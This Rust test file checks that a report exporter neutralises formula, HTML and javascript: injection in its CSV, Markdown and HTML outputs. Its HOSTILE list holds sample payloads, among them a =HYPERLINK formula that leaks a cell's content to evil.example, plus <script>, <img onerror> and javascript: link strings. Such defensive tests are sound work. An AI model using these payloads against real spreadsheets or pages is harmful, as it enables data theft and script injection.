//! Exports are inert: a statement that starts like a spreadsheet formula, or holds HTML or
//! a `javascript:` link, comes out of every report format as text, checked by parsing the
//! output as a spreadsheet or a Markdown renderer would read it.

use corroborate_engine::report::{self, Format};
use corroborate_engine::{Analysis, Correction, Options, Source};

const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/\"&A1,\"click\") was the toll.",
    "+1 more died in the fire that night.",
    "-2 people were saved from the fire.",
    "@SUM(A1:A9) people died in the fire.",
    "\tTabbed line about the fire.",
    "The fire <script>alert(1)</script> spread fast.",
    "The fire <img src=x onerror=alert(1)> spread far.",
    "The fire [click](javascript:alert(1)) burned for days.",
];

/// The hostile statements, all in one group (merged as a student would), so that every
/// report lists them.
fn analysis() -> Analysis {
    let text = HOSTILE.join("\n");
    let mut a = Analysis::new(
        vec![Source::from_text(
            "<b>sources</b>[x](javascript:y).txt",
            text,
        )],
        Options::default(),
    );
    assert_eq!(a.statements.len(), HOSTILE.len(), "one statement per line");
    let mut merges: Vec<Correction> = (0..a.statements.len())
        .map(|i| Correction::Noise {
            statement: a.key(i),
            kind: None,
        })
        .collect();
    merges.extend((1..a.statements.len()).map(|i| Correction::Move {
        statement: a.key(i),
        with: a.key(0),
    }));
    let applied = a.apply_corrections(&merges);
    assert!(applied.unmatched.is_empty(), "{:?}", applied.unmatched);
    assert_eq!(a.groups.len(), 1);
    a
}

/// A small RFC 4180 reader: rows of cells, quotes and doubled quotes understood.
fn parse_csv(s: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let (mut row, mut cell, mut quoted, mut chars) =
        (Vec::new(), String::new(), false, s.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    rows
}

#[test]
fn csv_cells_never_start_a_formula() {
    let a = analysis();
    let rows = parse_csv(&report::render(&a, &Default::default(), Format::Csv));
    assert_eq!(
        rows.len(),
        a.statements.len() + 1,
        "header and one row per statement"
    );
    let mut neutralised = 0;
    for row in &rows {
        assert_eq!(row.len(), rows[0].len(), "{row:?}");
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a spreadsheet would evaluate {cell:?}"
            );
            neutralised += usize::from(cell.starts_with('\''));
        }
    }
    // = + - @ (a leading tab is whitespace, which statements never start with)
    assert!(
        neutralised >= 4,
        "each dangerous statement is kept, with a leading '"
    );
    let text_col = rows[0].iter().position(|h| h == "text").unwrap();
    assert!(
        rows.iter()
            .any(|r| r[text_col] == format!("'{}", HOSTILE[0]))
    );
}

#[test]
fn markdown_shows_markup_as_text() {
    let md = report::render(&analysis(), &Default::default(), Format::Md);
    assert!(!md.contains('<'), "raw HTML reaches the renderer:\n{md}");
    // A link needs an unescaped `]` followed by `(`.
    let bytes = md.as_bytes();
    for i in 1..bytes.len() {
        if bytes[i] == b'(' && bytes[i - 1] == b']' {
            assert!(
                i >= 2 && bytes[i - 2] == b'\\',
                "a link survives at {i}:\n{md}"
            );
        }
    }
    assert!(md.contains("&lt;script&gt;") && md.contains("javascript:alert"));
}

#[test]
fn html_has_no_active_content() {
    let html = report::render(&analysis(), &Default::default(), Format::Html);
    let lower = html.to_lowercase();
    for bad in ["<script", "<img", "<a ", "<iframe"] {
        assert!(!lower.contains(bad), "{bad} in the HTML report");
    }
    // No tag carries a link, a source or an event handler.
    for part in lower.split('<').skip(1) {
        let tag = part.split('>').next().unwrap_or("");
        for attr in ["href=", "src=", "javascript:", " on"] {
            assert!(!tag.contains(attr), "<{tag}> carries {attr}");
        }
    }
    // Every tag in the page is one the report writes itself.
    let allowed = [
        "!doctype", "html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "table",
        "tr", "th", "td", "ul", "li", "b", "span", "em", "strong", "section", "div", "thead",
        "tbody", "small", "header", "footer", "br", "caption", "q", "code", "mark", "ol",
    ];
    for part in lower.split('<').skip(1) {
        let name: String = part
            .trim_start_matches('/')
            .chars()
            .take_while(|c| c.is_alphanumeric() || *c == '!')
            .collect();
        assert!(allowed.contains(&name.as_str()), "unexpected tag <{name}>");
    }
}
